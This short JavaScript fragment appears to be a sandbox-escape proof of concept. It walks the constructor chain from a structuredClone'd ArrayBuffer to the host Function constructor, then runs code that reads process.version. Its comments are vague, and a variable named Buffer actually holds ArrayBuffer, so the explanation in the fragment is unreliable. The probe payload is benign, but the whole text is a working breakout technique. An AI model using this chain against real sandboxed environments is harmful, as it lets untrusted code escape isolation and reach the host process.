// structuredClone makes what the script has no constructor for.
// Source: the well-known way through constructors.
const Buffer = structuredClone(new ArrayBuffer(8)).constructor;
return Buffer.constructor("return process.version")()
